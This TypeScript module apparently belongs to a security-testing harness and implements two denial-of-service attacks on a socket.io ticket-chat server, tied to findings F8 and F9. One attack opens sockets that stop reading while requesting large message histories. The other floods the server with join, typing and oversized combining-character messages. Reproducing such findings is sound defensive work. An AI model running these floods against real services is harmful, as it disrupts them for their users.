import { setTimeout as pause } from 'node:timers/promises'
import { io, type Socket } from 'socket.io-client'
import type { Attack, World } from '../attack.ts'
import { flood, Neighbour } from '../network.ts'

const SOCKETS = 40

function open({ url, token }: World): Socket {
  return io(url, {
    path: '/socket.io',
    transports: ['websocket'],
    auth: { token },
    forceNew: true,
    reconnectionDelay: 50,
    reconnectionDelayMax: 200,
  })
}

/** The library comes back when a connection broke, not when the server closed it. */
async function keepOpen(socket: Socket, signal: AbortSignal, once: () => void): Promise<void> {
  while (!signal.aborted) {
    if (socket.connected) once()
    else if (!socket.active) socket.connect()
    await pause(100)
  }
  socket.disconnect()
}

/** Much history, asked for by sockets that read nothing (F8). */
export const historyFlood: Attack = async (world) => {
  const { url, token, ticket, signal } = world
  const writer = new Neighbour(url)
  writer.token = token
  const message = 'so it goes '.repeat(900)
  for (let written = 0; written < 300 && !signal.aborted; written += 1)
    await writer.throw(`/api/tickets/${ticket}/messages`, { body: { message } })
  const deaf = Array.from({ length: SOCKETS }, () => open(world))
  await Promise.all(
    deaf.map((socket) =>
      keepOpen(socket, signal, () => {
        const { transport } = socket.io.engine as unknown as { transport: { ws?: { pause: () => void } } }
        transport.ws?.pause()
        for (let asked = 0; asked < 20; asked += 1) socket.emit('request_history', ticket)
      }),
    ),
  )
}

/** 16,000 events a second from one person (F9). */
export const eventFlood: Attack = async (world) => {
  const all = Array.from({ length: SOCKETS }, () => open(world))
  const each = (socket: Socket) => () => {
    for (let sent = 0; sent < 40; sent += 1) {
      socket.emit('join_ticket', world.ticket, () => undefined)
      socket.emit('typing', world.ticket)
      socket.emit('ticket_message', world.ticket, '\u0301'.repeat(9_000), {}, () => undefined)
    }
  }
  const newcomers = flood(world.signal, 10, async () => {
    // Connects and is nobody.
    const socket = io(world.url, { path: '/socket.io', transports: ['websocket'], forceNew: true })
    await pause(100)
    socket.disconnect()
  })
  await Promise.all([newcomers, ...all.map((socket) => keepOpen(socket, world.signal, each(socket)))])
}
